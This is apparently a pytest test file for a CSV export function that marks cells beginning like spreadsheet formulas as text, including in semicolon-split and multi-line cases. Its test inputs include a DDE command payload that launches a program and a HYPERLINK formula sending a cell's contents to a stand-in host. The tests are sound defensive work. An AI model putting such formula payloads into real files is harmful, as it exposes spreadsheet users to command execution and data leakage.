"""Cells of CSV: spreadsheets read text as text, and nothing of it is lost."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tenants.csv_text import FORMULA_STARTS, csv_cell, csv_row, unmarked


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+41 44", "-1", "@SUM(A1)", "\t=1", "\r1", "\n1", "  =1", '=cmd|" /C calc"!A0', "＝1", "＠x"],
)  # fmt: skip
def test_what_would_be_a_formula_is_marked_as_text(text: str) -> None:
    """The mark stands in front; the rest is as it was."""
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('x;=HYPERLINK("https://evil.test?"&A1)', """x;'=HYPERLINK("https://evil.test?"&A1)"""),
        ("x; =1;y;@SUM(A1)", "x;' =1;y;'@SUM(A1)"),
        ('x";=1', """x";'=1"""),
        ("x\n=1\r\n-2", "x\n'=1\r'\n'-2"),
        ("\r=1", "'\r'=1"),
    ],
)
def test_where_a_semicolon_separates_no_cell_is_a_formula_either(text: str, cell: str) -> None:
    """German or French spreadsheets cut the line at semicolons, and at line ends, since our quotes stand in its middle."""
    assert csv_cell(text) == cell
    line = csv_row(["Ada", text, "end"])
    cells = [cell for row in csv.reader(io.StringIO(line, newline=""), delimiter=";") for cell in row]
    assert not any(cell.lstrip(" ").startswith(FORMULA_STARTS) for cell in cells), cells


@pytest.mark.parametrize("value", ["Ada", "a=b", "", "1-1", "Ünïcode", "🙂", None, 7, True])
def test_everything_else_stays_as_it_is(value: object) -> None:
    """Plain text is not touched; None is empty."""
    assert csv_cell(value) == ("" if value is None else str(value))


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=20), min_size=1, max_size=5))
def test_a_row_reads_back_and_holds_no_formula(values: list[str]) -> None:
    """Quotes, separators and line ends survive; no cell begins like a formula; NUL alone is left out."""
    (read,) = csv.reader(io.StringIO(csv_row(values), newline=""))
    assert [unmarked(cell) for cell in read] == [value.replace("\x00", "") for value in values]
    assert not any(cell.lstrip(" ").startswith(FORMULA_STARTS) for cell in read)
    cut = csv.reader(io.StringIO(csv_row(["Ada", *values, "end"]), newline=""), delimiter=";")
    assert not any(cell.lstrip(" ").startswith(FORMULA_STARTS) for row in cut for cell in row)


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "'=1+1", "''=1", "' =1", "+44 20", "O'Brien", "'tis", "'", "", " -x", "\t1", "＝1", "a=b"),
        *("x;=1", "x;'=1", "\n\n=;'';+"),
    ],
)
def test_a_mark_is_taken_away_again_and_nothing_else(text: str) -> None:
    """What is exported comes back as it was, apostrophes of its own included."""
    assert unmarked(csv_cell(text)) == text
